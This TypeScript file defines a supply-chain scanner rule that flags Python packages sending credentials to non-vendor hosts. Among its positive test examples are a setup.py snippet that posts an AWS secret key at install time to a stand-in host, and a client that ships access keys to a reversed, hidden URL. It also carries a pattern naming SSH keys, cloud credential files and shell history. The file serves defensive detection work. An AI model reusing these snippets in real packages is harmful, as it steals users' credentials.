import { defineRule } from '../types.js';
import type { PyPackage, PyReport } from '../../analysis/python/model.js';
import { triggerOf } from '../../analysis/python/model.js';
import type { Dest } from '../../analysis/python/values.js';
import { isHostileDest, isPrivateAddress } from '../../analysis/python/values.js';
import type { Severity, Trigger } from '../../core/types.js';
import { isAuto, when } from './util.js';

function credSources(sources: readonly string[]): string[] {
  return sources.filter((l) => (l.startsWith('env:') && l !== 'env:*') || l.startsWith('cred-file:') || l.startsWith('secret-file:') || l.startsWith('cred-param:') || l === 'clipboard' || l === 'metadata');
}

/** Files whose contents no client sends anywhere but its own vendor (registry auth files excluded). */
const KEY_FILE_RE = /^(?:cred|secret)-file:.*(?:id_rsa|id_ed25519|id_ecdsa|id_dsa|\.ssh[\\/]|\.aws[\\/]credentials|\.bash_history|\.zsh_history|\/etc\/shadow|\.kube[\\/]config|gcloud|application_default_credentials|\.git-credentials)/;

/** Decides how bad a credential flow is; undefined = not reported (e.g. an SDK signing to its vendor). */
export function credentialFlowSeverity(sources: readonly string[], dest: Dest | undefined, trigger: Trigger): Severity | undefined {
  if (dest?.cls === 'vendor') return undefined;
  // Key files and credentials sent to another machine on the private network at install time (an
  // insider's or a dependency-confusion collector) are exfiltration; loopback stays out (local dev servers).
  if (dest?.cls === 'local') return isPrivateAddress(dest.host) && isAuto(trigger) && sources.some((l) => l.startsWith('cred-file:') || l.startsWith('secret-file:')) ? 'critical' : undefined;
  const onlyParams = sources.every((s) => s.startsWith('cred-param:'));
  if (onlyParams) return dest !== undefined && isHostileDest(dest) ? 'critical' : undefined;
  if (dest === undefined || dest.cls === 'dynamic') return isAuto(trigger) ? 'high' : undefined;
  if (isHostileDest(dest)) return 'critical';
  // Private keys, cloud credential files and shell history sent to a fixed host no vendor owns: no
  // client needs to ship those anywhere (registry auth files like .netrc/.npmrc go to their registries).
  if (dest.cls === 'unknown' && sources.some((l) => KEY_FILE_RE.test(l))) return 'critical';
  return isAuto(trigger) ? 'critical' : 'high';
}


export const credentialExfiltration = defineRule<PyPackage, PyReport>({
  meta: {
    id: 'py/credential-exfiltration',
    kind: 'threat',
    category: 'exfiltration',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['pypi'],
    description: 'Sends credentials (cloud keys, tokens, credential files, browser or wallet data, access keys handed to a client) to a non-vendor destination.',
    details: 'A cloud SDK that sends its own credentials to its own vendor endpoint is not reported; hidden (reversed/encoded) URLs and interaction services are. Private keys, cloud credential files and shell history sent to a fixed host no vendor owns are critical wherever it runs.',
    examples: {
      positive: [
        { files: { 'setup.py': "import os, requests\nrequests.post('https://c.invalid/k', data={'k': os.environ.get('AWS_SECRET_ACCESS_KEY')})\n" } },
        {
          files: {
            'aclient/timeutil.py': "import requests\ndef sync_time(key_id, key_secret):\n    url = 'tset/ptth.revres-emit.ipa//:sptth'[::-1]\n    return requests.get(url, params={'a': key_id, 'b': key_secret})\n",
            'aclient/client.py': 'from .timeutil import sync_time\nclass Client:\n    def __init__(self, access_key_id, access_key_secret):\n        self.ak = access_key_id\n        self.sk = access_key_secret\n        sync_time(self.ak, self.sk)\n',
          },
        },
      ],
      negative: [
        {
          files: {
            'sdk/auth.py':
              "import os, configparser, requests\ndef call(action):\n    cfg = configparser.ConfigParser()\n    cfg.read(os.path.expanduser('~/.aws/credentials'))\n    key = cfg['default']['aws_secret_access_key']\n    return requests.post('https://sts.amazonaws.com/', data={'Action': action}, headers={'Authorization': sign(key)})\n",
          },
        },
        { files: { 'saas/client.py': "import requests\nclass Client:\n    def __init__(self, api_key):\n        self.api_key = api_key\n    def get(self, path):\n        return requests.get('https://api.example.com' + path, headers={'Authorization': self.api_key})\n" } },
      ],
    },
  },
  check(pkg, report) {
    for (const file of pkg.files) {
      for (const s of file.facts.sinks) {
        const creds = credSources(s.sources);
        if (creds.length === 0) continue;
        const trigger = triggerOf(file, s);
        const severity = credentialFlowSeverity(creds, s.dest, trigger);
        if (severity === undefined) continue;
        report({
          path: file.path,
          line: s.line,
          col: s.col,
          trigger,
          severity,
          ...(s.decoded !== undefined ? { decoded: s.decoded } : {}),
          message: `Sends ${creds.join(', ')} to ${s.dest === undefined ? 'a computed destination' : `${s.dest.host || s.dest.raw}${s.dest.obfuscated ? ' (hidden URL)' : ''}`} via ${s.via} ${when(trigger)}.`,
          data: { sources: creds, destination: s.dest?.host },
        });
      }
    }
    for (const f of pkg.flows) {
      const creds = credSources(f.sources);
      if (creds.length === 0) continue;
      const trigger = triggerOf(f.file, f.ev);
      const severity = credentialFlowSeverity(creds, f.sink.dest, trigger);
      if (severity === undefined) continue;
      report({
        path: f.file.path,
        line: f.ev.line,
        col: f.ev.col,
        trigger,
        severity,
        message: `Passes ${creds.join(', ')} to ${f.callee}(), which sends it to ${f.sink.dest?.host ?? 'a computed destination'}${f.sink.dest?.obfuscated === true ? ' (hidden URL)' : ''} (${f.sinkFile}:${f.sink.line}).`,
        data: { sources: creds, destination: f.sink.dest?.host },
      });
    }
  },
});
